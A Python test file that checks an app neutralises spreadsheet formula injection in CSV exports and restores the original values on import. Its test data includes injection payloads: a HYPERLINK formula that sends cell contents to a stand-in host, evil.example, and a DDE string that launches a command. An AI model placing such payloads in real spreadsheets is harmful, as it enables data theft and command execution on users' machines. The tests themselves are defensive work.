"""No cell of an exported CSV is a formula, and none is changed for good."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.exchange.cells import expose, protect
from apps.records.models import Record
from tests.exchange.conftest import export_bytes, import_bytes, import_lines

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1:9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_harmless_and_comes_back(dataset, text):
    row = {"id": text, "text": text, "metadata": {"source": text, text: text}}
    row |= {"comment": text, "comment.agent": text}
    import_lines(dataset, row)
    exported = export_bytes(dataset, "csv")
    for cells in csv.reader(io.StringIO(exported.decode(), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in cells)
    before = export_bytes(dataset)
    Record.objects.all().delete()
    assert import_bytes(dataset, exported, "csv").counts == (1, 1, 0, 0)
    assert export_bytes(dataset) == before


def test_the_protection_can_be_switched_off(dataset):
    import_lines(dataset, {"id": "a", "text": "=1+1"}, {"id": "b", "text": "'=1+1"})
    exported = export_bytes(dataset, "csv", raw_formulas=True)
    assert b",=1+1," in exported
    import_bytes(dataset, exported, "csv", raw_formulas=True)
    texts = [record.fields["text"] for record in Record.objects.order_by("external_id")]
    assert texts == ["=1+1", "'=1+1"]


def test_numbers_stay_numbers():
    for number in ("-5", "+4.5", "-1e-05", "-.5"):
        assert protect(number) == number
    assert protect("-5+1") == "'-5+1"


def test_the_apostrophes_of_other_files_are_left_alone(dataset):
    import_bytes(dataset, b"id,text\na,'-ism is a suffix\n", "csv")
    assert Record.objects.get().fields["text"] == "'-ism is a suffix"


@given(st.text(alphabet="'=+-@\t\r\nа1e.\uff0b ", max_size=8) | st.text())
def test_protect_and_expose_undo_one_another(cell):
    assert expose(protect(cell)) == cell
